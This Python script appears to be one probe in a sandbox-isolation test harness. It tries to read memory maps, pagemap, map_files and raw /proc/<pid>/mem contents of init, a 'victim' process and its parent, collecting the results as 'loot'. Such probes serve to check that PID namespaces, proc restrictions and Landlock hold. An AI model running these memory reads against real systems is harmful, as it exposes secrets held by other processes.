"""Reads the memory of init and of the victim, by their memory files and the maps that tell where to look."""
# walls: pid_namespace proc landlock
# observe: unread word
# depth: yes
import os

for number in (1, aim.victim, os.getppid()):
    for name in ("maps", "smaps", "numa_maps", "pagemap", "map_files"):
        path = f"/proc/{number}/{name}"
        try:
            if name == "map_files":
                found = repr(os.listdir(path))
            else:
                with open(path, "rb") as file:
                    found = file.read(65536)
            loot(found)
            if found:
                gained(f"{path} tells where its memory lies")
        except OSError as error:
            tried(f"{path}: {error.strerror}")
    try:
        with open(f"/proc/{number}/mem", "rb", buffering=0) as memory:
            gained(f"the memory of {number} is open")
            for address in (0x400000, 0x10000):
                memory.seek(address)
                loot(memory.read(4096))
    except OSError as error:
        tried(f"/proc/{number}/mem: {error.strerror}")
